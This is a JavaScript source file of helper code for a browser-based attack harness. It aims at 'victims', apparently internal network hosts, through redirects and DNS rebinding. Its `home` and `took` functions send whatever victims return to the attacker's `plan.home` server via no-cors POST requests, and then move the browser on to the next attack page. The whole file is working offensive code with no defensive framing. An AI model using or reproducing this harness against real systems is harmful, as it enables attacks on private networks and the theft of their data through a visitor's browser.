// What the attacks share: where the victims are, and how to bring things home.

/** An address at a victim; on the attacker's own redirect where the plan says so. */
const at = (victim, path) => {
  const url = `http://${victim.at}${path}`;
  return plan.redirected ? `${location.origin}/elsewhere?to=${encodeURIComponent(url)}` : url;
};

const underway = [];
const home = (what, body, number = 0) => {
  const sent = fetch(`${plan.home}/${what}?run=${plan.run}&victim=${number}`, { method: 'POST', mode: 'no-cors', body });
  underway.push(sent);
  return sent;
};

/** Brings home what a victim gave away. */
const took = (victim, what) => home('took', typeof what === 'string' ? what : JSON.stringify(what), victim.number);

const pause = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));

/** Waits for something, but not for ever. */
const within = (milliseconds, promise) => Promise.race([promise, pause(milliseconds)]);

/** An element in the page, once it has loaded what it names, or could not. */
const loaded = (element, parent = document.body) =>
  new Promise((done) => {
    element.onload = element.onerror = element.onloadeddata = done;
    parent.append(element);
  });

/** Tries something for each; what a browser or a server refuses is passed over. */
const each = async (list, act) => {
  for (const one of list) {
    try {
      await act(one);
    } catch (refused) {
      console.log(String(refused));
    }
  }
};

async function run(attack) {
  // Connections that were opened ahead, to the address that a name had before, are used up.
  if (plan.rebound) await each([1, 2, 3], () => fetch('/used-up'));
  const all = async () => {
    // Nobody can press two buttons at once.
    if (plan.inTurn) await each(plan.victims, attack);
    else await Promise.all(plan.victims.map((victim) => each([victim], attack)));
  };
  await within(12_000, all());
  await Promise.all(underway);
  await home('done', '');
  location.replace(`${plan.home}/next`);
}
